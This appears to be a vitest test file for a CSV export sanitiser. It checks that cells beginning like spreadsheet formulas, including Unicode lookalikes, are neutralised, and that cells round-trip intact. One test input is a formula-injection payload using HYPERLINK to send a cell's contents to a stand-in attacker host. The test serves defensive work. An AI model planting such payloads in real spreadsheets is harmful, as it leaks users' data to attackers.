import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { plainCell, safeCell } from '@/lib/domain/csv-cell'

describe('S34 a cell of an export', () => {
  it.each([
    '=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', '＝1+1', '＋1', '－1', '＠x', ' =1', '\u00A0=1', '\u3000=1', '\u200B=1', '"=1', '\'=1', '  "=1', '|calc', '%0A', '\u2212 1',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
  ])('S34 is no formula for %j', (text) => {
    expect(safeCell(text)).toBe(`'${text}`)
  })

  it.each(['', 'Mara', 'a=b', 'mara@brightwater.example', '1-2', '\'quoted\'', '„quoted“', 'O\'Neill'])('S34 leaves %j alone', (text) => {
    expect(safeCell(text)).toBe(text)
  })

  it('S34 keeps numbers, truth and absence', () => {
    expect([-5, 0.5, true, undefined, null].map(safeCell)).toEqual(['-5', '0.5', 'true', '', ''])
  })

  it('S34 comes back from a file as it was', () => {
    fc.assert(fc.property(fc.array(fc.oneof(fc.string({ unit: 'grapheme' }), fc.string().map((text) => `=${text}`), fc.string().map((text) => `'-${text}`)), { minLength: 2, maxLength: 5 }), (row) => {
      const file = Papa.unparse([row.map(safeCell)], { quotes: true })
      expect(Papa.parse<string[]>(file, { newline: '\r\n' }).data[0]?.map(plainCell)).toEqual(row)
    }))
  })

  it('S34 lets no cell begin like a formula', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(safeCell(text)).not.toMatch(/^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/)
    }))
  })
})
